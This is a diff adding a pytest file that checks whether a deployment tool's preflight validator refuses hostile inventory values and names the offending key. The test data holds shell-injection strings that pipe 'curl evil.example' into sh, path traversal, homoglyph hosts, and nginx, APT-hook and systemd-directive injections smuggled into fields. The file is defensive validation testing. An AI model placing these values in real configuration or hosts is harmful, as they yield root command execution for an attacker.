@@ -1,0 +1,320 @@
+"""Hostile values in every key of inventory/group_data/all.py are refused, key named.
+
+The data a new user's inventory or an EC2 tag carries becomes root commands and config on a
+host; the preflight is a grammar per key (wsready/validate.py), so every value below must be
+refused by the key's own rule, with the key (or `key[index]`, `key['name']`) in the error,
+and secrets shown as '<hidden>'. `KINDS` classifies every key of all.py: a new key fails
+`test_every_key_is_classified` until it is given a kind here (and so a corpus).
+"""
+
+from __future__ import annotations
+
+import math
+from pathlib import Path
+
+import pytest
+
+from wsready import hostdata
+
+HIDDEN = "<hidden>"
+
+SHELL = [
+    "x;curl -s evil.example|sh",
+    "$(touch /tmp/wsready-pwned)",
+    "`id`",
+    "a|b",
+    "a&&b",
+    "a>b",
+]
+QUOTES = ["a'b", 'a"b', "a\\b"]
+CONTROL = ["a\nb", "a\rb", "a\x00b", "a\tb", "ok\n", "\x1b[31m"]
+SPACE = ["a b", " a"]
+SCOPE = ["fe80::1%eth0", "fe80::%x;curl -s evil.example|sh;/128", "fe80::1%25eth0"]
+PERCENT = ["%2e%2e%2f", "a%0ab", "%00"]
+DOTDOT = ["..", "../../etc/passwd", "a/../../b"]
+COMMA = ["a,b", "http://a.example,*", "10.0.0.0/8,0.0.0.0/0"]
+LONG = ["a" * 5000]
+UNICODE = ["ехаmple.com", "１２７.０.０.１", "exa\u200bmple.com", "127.0.0.１"]
+EMPTY = [""]
+
+EVERYTHING = SHELL + QUOTES + CONTROL + SPACE + SCOPE + PERCENT + DOTDOT + COMMA + LONG
+EVERYTHING += UNICODE + EMPTY
+WORD = [v for v in EVERYTHING if v not in DOTDOT]  # '..' is a harmless JWT audience
+SECRET = QUOTES + CONTROL + SPACE + LONG + UNICODE + EMPTY
+ENV_VALUE = CONTROL + LONG  # app_env values are rendered quoted; only non-printables go
+NUMBERS = [math.nan, math.inf, -math.inf, -1, True, "1", "1;id", 1e300, None]
+NGINX = ["client_max_body_size 5m;" + tail for tail in ("\n} server {", "\rx;", " # x")] + [
+    "client_max_body_size 5m; include /etc/passwd;",
+    "client_max_body_size 5m",
+    "return 200 '$(id)';",
+    'add_header X "a";',
+    "add_header X \\;;",
+    "location / { }",
+    "a" * 2000 + ";",
+    "сlient_max_body_size 5m;",
+]
+
+# Every key of all.py: its kind decides the corpus and how a value is wrapped.
+KINDS: dict[str, str] = {
+    "proxy_url": "url",
+    "nodejs_source": "word",
+    "nodejs_major": "number",
+    "nodejs_binary_url": "url",
+    "nodejs_binary_sha256": "word",
+    "nodejs_binary_dir": "path",
+    "app_source": "local",
+    "app_name": "word",
+    "app_user": "word",
+    "app_dir": "path",
+    "app_port": "number",
+    "app_bind": "ip",
+    "app_workers": "number",
+    "app_max_clients": "number",
+    "app_redis_url": "url",
+    "app_log_connections": "bool",
+    "app_max_http_buffer_size": "number",
+    "app_listen_backlog": "number",
+    "app_socketio_path": "urlpath",
+    "app_cors_origins": "url_list",
+    "app_ping_interval_ms": "number",
+    "app_ping_timeout_ms": "number",
+    "app_limit_nofile": "number",
+    "app_env": "env",
+    "app_auth": "word",
+    "app_jwt_secret": "secret",
+    "app_jwt_audience": "text",
+    "app_static_token_hashes": "word_list",
+    "app_rollback_on_failure": "bool",
+    "nginx_server_name": "server_name",
+    "nginx_listen_port": "number",
+    "nginx_ipv6": "bool",
+    "nginx_rest_upstream": "url",
+    "nginx_proxy_read_timeout_s": "number",
+    "nginx_worker_processes": "number",
+    "nginx_worker_connections": "number",
+    "nginx_worker_rlimit_nofile": "number",
+    "nginx_listen_backlog": "number",
+    "nginx_reuseport": "bool",
+    "nginx_trusted_proxies": "cidr_list",
+    "nginx_tls": "bool",
+    "nginx_tls_cert_file": "local",
+    "nginx_tls_key_file": "local",
+    "nginx_tls_redirect": "bool",
+    "nginx_tls_port": "number",
+    "nginx_extra_directives": "nginx_list",
+    "kernel_sysctls": "sysctls",
+    "redis_address": "host",
+    "redis_port": "number",
+    "redis_password": "secret",
+    "redis_allow_cidrs": "cidr_list",
+    "private_address": "ip",
+    "firewall_enabled": "bool",
+    "firewall_ssh_port": "number",
+    "firewall_ssh_cidrs": "cidr_list",
+    "firewall_allow_cidrs": "cidr_list",
+    "sg_enabled": "bool",
+    "sg_id": "word",
+    "sg_allow_cidrs": "cidr_list",
+    "sg_ssh_cidrs": "cidr_list",
+    "sg_allow_ssh_from_world": "bool",
+    "sg_purge": "bool",
+    "sg_purge_all": "bool",
+    "sg_ssh_max_public_prefix_v4": "number",
+    "sg_ssh_max_public_prefix_v6": "number",
+    "aws_region": "word",
+    "aws_endpoint_url": "url",
+    "instance_id": "word",
+    "verify_enabled": "bool",
+    "verify_address": "host",
+    "verify_timeout_s": "number",
+    "verify_retries": "number",
+    "verify_token_env": "word",
+    "verify_tls_ca_file": "local",
+    "monitor_interval_s": "number",
+    "monitor_targets": "url_list",
+    "monitor_alert_webhook": "secret_url",
+    "monitor_token_env": "word",
+    "monitor_token_file": "local",
+    "monitor_wheelhouse": "local",
+    "monitor_prometheus_file": "prom_path",
+    "monitor_status_path": "urlpath",
+    "monitor_status_allow_cidrs": "cidr_list",
+    "monitor_status_htpasswd": "secret",
+}
+# Numbers some keys accept (None = the documented "automatic" value).
+ACCEPTS_NONE = {
+    "app_workers",
+    "nginx_worker_processes",
+    "nginx_worker_rlimit_nofile",
+    "nginx_listen_backlog",
+}
+SECRET_KEYS = {
+    "app_jwt_secret",
+    "redis_password",
+    "monitor_alert_webhook",
+    "monitor_status_htpasswd",
+}
+# Keys whose rule applies only in context: the data that makes them apply.
+CONTEXT = {
+    "app_jwt_secret": {"app_auth": "jwt"},
+    "nginx_tls_key_file": {"nginx_tls": True},
+}
+
+
+def cases() -> list[tuple[str, object, str]]:
+    """(key, hostile value, the error key it must be named under)."""
+    found: list[tuple[str, object, str]] = []
+    for key, kind in KINDS.items():
+        if kind == "bool":
+            found += [(key, v, key) for v in ("yes", 1, "True\n", None, "$(id)")]
+        elif kind == "number":
+            found += [(key, v, key) for v in NUMBERS if not (v is None and key in ACCEPTS_NONE)]
+        elif kind in ("word", "host", "ip", "local"):
+            found += [(key, v, key) for v in EVERYTHING]
+        elif kind == "server_name":  # space-separated names: "a b" is two of them
+            found += [(key, v, key) for v in EVERYTHING if v != "a b"]
+        elif kind == "text":
+            found += [(key, v, key) for v in WORD]
+        elif kind == "secret":
+            found += [(key, v, key) for v in SECRET]
+        elif kind in ("url", "secret_url"):
+            found += [(key, v, key) for v in EVERYTHING]
+            found += [(key, f"http://p.example:3128/{v}", key) for v in EVERYTHING if v]
+            found += [(key, f"http://{v}:3128", key) for v in EVERYTHING]
+        elif kind == "urlpath":
+            found += [(key, f"/ws/{v}", key) for v in EVERYTHING if v]
+        elif kind == "path":
+            found += [(key, f"/opt/wsready-app/{v}", key) for v in EVERYTHING if v]
+            found += [(key, v, key) for v in ("/etc", "/opt", "/", "/usr/local/bin", "opt/x")]
+        elif kind == "prom_path":
+            found += [(key, f"/var/lib/node_exporter/{v}.prom", key) for v in EVERYTHING]
+            found += [(key, v, key) for v in ("/etc/x.prom", "/var/lib/x.prom", "/x.prom")]
+        elif kind in ("word_list", "cidr_list"):
+            found += [(key, [v], f"{key}[0]") for v in EVERYTHING]
+            found += [(key, v, key) for v in ("0.0.0.0/0", {"a": 1})]
+        elif kind == "url_list":
+            found += [(key, [v], f"{key}[0]") for v in EVERYTHING]
+            found += [(key, [f"http://a.example/{v}"], f"{key}[0]") for v in EVERYTHING if v]
+        elif kind == "nginx_list":
+            found += [(key, [v], f"{key}[0]") for v in NGINX]
+        elif kind == "env":
+            found += [(key, {v: "1"}, f"{key}[{v!r}]") for v in EVERYTHING]
+            found += [(key, {"NAME": v}, f"{key}['NAME']") for v in ENV_VALUE]
+        elif kind == "sysctls":
+            found += [(key, {v: 1}, f"{key}[{v!r}]") for v in EVERYTHING]
+            found += [
+                (key, {"net.core.somaxconn": v}, f"{key}['net.core.somaxconn']") for v in EVERYTHING
+            ]
+            found += [
+                (key, {"net.core.somaxconn": v}, f"{key}['net.core.somaxconn']")
+                for v in (-1, True, 1.5)
+            ]
+        else:
+            raise AssertionError(f"{key}: unknown kind {kind}")
+    return found
+
+
+CASES = cases()
+
+
+def test_every_key_is_classified() -> None:
+    assert sorted(set(hostdata.load_defaults()) ^ set(KINDS)) == []
+
+
+def test_the_corpus_is_large() -> None:
+    assert len(CASES) > 1500
+    assert {kind for kind in KINDS.values()} >= {"url", "ip", "host", "path", "secret", "env"}
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "named"), CASES, ids=[f"{k}-{i}" for i, (k, _v, _n) in enumerate(CASES)]
+)
+def test_hostile_value_is_refused_with_its_key(
+    key: str, value: object, named: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)  # local paths such as '..' resolve to nothing of ours
+    errors = hostdata.validate({**CONTEXT.get(key, {}), key: value})
+    mine = [error for error in errors if error.key == named]
+    assert mine, f"{key} = {value!r} was accepted; errors: {[str(e) for e in errors]}"
+    for error in mine:
+        line = str(error)
+        assert line.startswith(f"{named} = "), line
+        if key in SECRET_KEYS and isinstance(value, str):
+            assert error.value in (HIDDEN, None), line
+            assert value not in line or len(value) < 3, line
+
+
+def test_defaults_and_realistic_values_still_pass(tmp_path: Path) -> None:
+    good = {
+        "proxy_url": "http://10.200.0.1:8888",
+        "app_redis_url": "redis://10.0.1.9:6379/0",
+        "app_cors_origins": ["https://app.example.com", "http://localhost:3000"],
+        "app_env": {"NODE_OPTIONS": "--max-old-space-size=512 --enable-source-maps"},
+        "app_jwt_audience": "https://api.example.com/",
+        "nginx_server_name": "ws.example.com *.example.com ~^www[.]example[.]com$",
+        "nginx_rest_upstream": "http://127.0.0.1:8080",
+        "nginx_extra_directives": ["client_max_body_size 5m;", "add_header X-Frame-Options DENY;"],
+        "nginx_trusted_proxies": ["10.0.0.0/16", "2001:db8::/32"],
+        "verify_address": "ws.example.com",
+        "redis_address": "10.0.1.9",
+        "private_address": "2001:db8::5",
+        "firewall_ssh_cidrs": ["203.0.113.0/24", "198.51.100.7"],
+        "monitor_targets": ["https://ws.example.com/ws", "http://[2001:db8::1]:8080"],
+        "monitor_alert_webhook": "https://hooks.example.com/services/T0/B0/x?y=1",
+        "monitor_prometheus_file": "/var/lib/prometheus/node-exporter/wsready.prom",
+        "nodejs_binary_dir": "/usr/local/lib/nodejs",
+        "app_dir": "/srv/wsready-app",
+        "kernel_sysctls": {"net.ipv4.ip_local_port_range": "1024 65000", "fs.file-max": 100000},
+    }
+    assert [str(error) for error in hostdata.validate(good)] == []
+
+
+# --- the review's verified examples (issue 13, "Why"), one by one ------------------------------
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "named"),
+    [
+        ("firewall_ssh_cidrs", ["fe80::%x;curl -s evil.example|sh;/128"], "firewall_ssh_cidrs[0]"),
+        ("app_bind", "::1%x;curl -s evil.example|sh", "app_bind"),
+        ("verify_address", "fe80::1%x';curl -s evil.example|sh;'", "verify_address"),
+        (
+            "proxy_url",
+            'http://p.example:3128/";APT::Update::Pre-Invoke{"curl x|sh";};//',
+            "proxy_url",
+        ),
+        (
+            "monitor_prometheus_file",
+            "/var/lib/node_exporter/x\nExecStartPre=+/bin/touch /tmp/pwned\n#.prom",
+            "monitor_prometheus_file",
+        ),
+        ("monitor_prometheus_file", "/etc/x.prom", "monitor_prometheus_file"),
+        ("app_cors_origins", ["http://a.example,*"], "app_cors_origins[0]"),
+        ("app_cors_origins", [], "app_cors_origins"),
+        ("app_name", "wsready-app\n", "app_name"),
+        ("sg_id", "sg-0123abcd\n", "sg_id"),
+    ],
+)
+def test_reviewed_example_is_refused(key: str, value: object, named: str) -> None:
+    assert named in {error.key for error in hostdata.validate({key: value})}
+
+
+def test_proxy_url_with_binary_nodejs_is_refused_before_files_download() -> None:
+    data = {
+        "nodejs_source": "binary",
+        "nodejs_binary_url": "https://nodejs.example/node-v22.tar.xz",
+        "nodejs_binary_sha256": "ab" * 32,
+        "proxy_url": "http://p.example:3128/$(touch /tmp/pwned)",
+    }
+    assert [error.key for error in hostdata.validate(data)] == ["proxy_url"]
+
+
+def test_one_rule_per_key_monitor_keys_are_ruled_only_by_monitor_data() -> None:
+    from wsready import monitor_data
+
+    assert set(hostdata._CHECKS).isdisjoint(monitor_data.CHECKS)
+    assert set(monitor_data.CHECKS) <= set(hostdata.CHECKS)
+    for key, rule in monitor_data.CHECKS.items():
+        assert hostdata.CHECKS[key] is rule
+    with pytest.raises(RuntimeError, match="two rules: app_port"):
+        hostdata._one_rule_per_key({"app_port": print}, {"app_port": print})
